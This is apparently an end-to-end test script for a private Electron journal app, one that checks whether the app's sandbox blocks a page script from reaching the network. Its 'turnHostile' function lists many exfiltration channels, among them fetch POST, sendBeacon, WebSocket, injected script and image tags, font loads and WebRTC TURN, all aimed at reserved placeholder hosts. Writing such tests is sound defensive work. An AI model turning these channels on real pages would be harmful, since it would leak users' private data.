/**
 * A short life of the Chromium shell, to be run under a tracer: first start,
 * writing, printing, a page turned hostile, lock and unlock, end.
 */
import { fileURLToPath } from 'node:url'
import type { Page } from 'playwright/test'
import { openChromiumShell } from '../../electron/host/chromium/shell.ts'
import { beginJournal, lockAndUnlock } from './pages/first-start.ts'

const [home = '', waitMs = '0'] = process.argv.slice(2)
const shell = await openChromiumShell({ home, dist: fileURLToPath(new URL('../../dist/renderer/', import.meta.url)), headless: process.env['MJ_HEADLESS'] === '1' })
// The runner's types are those of the library the shell uses, under its other name.
const page = () => shell.page as Page

const code = await beginJournal(page())
await page().keyboard.type('What I would rather not say aloud.')
await page().evaluate((given) => window.bridge.call('recovery.print', { code: given, language: 'en' }), code)
const tried = page()
try {
  await tried.evaluate(turnHostile)
} catch {
  // So much at once brings a loaded browser's page down now and then: the app opens another window, locked.
  process.stderr.write('the hostile page came down\n')
  for (let waited = 0; page() === tried && waited < 20_000; waited += 200) await new Promise((done) => setTimeout(done, 200))
}
await lockAndUnlock(page())
await new Promise((done) => setTimeout(done, Number(waitMs)))
await shell.close()
process.stdout.write('journey done\n')

/** Everything a script in the page could try to reach somebody with. Addresses are reserved for documents. */
async function turnHostile(): Promise<void> {
  const hosts = ['192.0.2.1', '[2001:db8::1]', 'collector.example', '10.1.2.3']
  const attempts: Array<() => unknown> = hosts.flatMap((host) => [
    () => fetch(`https://${host}/`, { mode: 'no-cors' }),
    () => fetch(`http://${host}:8080/?q=words`, { method: 'POST', body: 'words', keepalive: true }),
    () => new WebSocket(`wss://${host}/`),
    () => new EventSource(`https://${host}/`),
    () => navigator.sendBeacon(`https://${host}/`, 'words'),
    () => { new Image().src = `https://${host}/words.png` },
    () => add('link', { rel: 'stylesheet', href: `https://${host}/words.css` }),
    () => add('link', { rel: 'preconnect', href: `https://${host}/` }),
    () => add('link', { rel: 'dns-prefetch', href: `//${host}/` }),
    () => add('link', { rel: 'prefetch', href: `https://${host}/words` }),
    () => add('script', { src: `https://${host}/words.js` }),
    () => add('iframe', { src: `https://${host}/` }),
    () => add('video', { src: `https://${host}/words.mp4` }),
    () => { document.body.style.backgroundImage = `url(https://${host}/words.png)` },
    () => new FontFace('words', `url(https://${host}/words.woff2)`).load(),
    () => new WebTransport(`https://${host}:443/`).ready,
    () => window.open(`https://${host}/`),
    async () => {
      const peer = new RTCPeerConnection({ iceServers: [
        { urls: `stun:${host}:3478` }, { urls: [`turn:${host}:3478?transport=udp`, `turn:${host}:3478?transport=tcp`], username: 'a', credential: 'b' },
      ] })
      peer.createDataChannel('words')
      await peer.setLocalDescription(await peer.createOffer())
    },
  ])
  function add(tag: string, attributes: Record<string, string>): void {
    const element = document.createElement(tag)
    for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value)
    document.head.append(element)
  }
  for (const attempt of attempts) {
    try {
      // What is refused later is refused all the same.
      void Promise.resolve(attempt()).catch(() => undefined)
    } catch {
      // Refused at once.
    }
  }
  await new Promise((done) => setTimeout(done, 3_000))
}
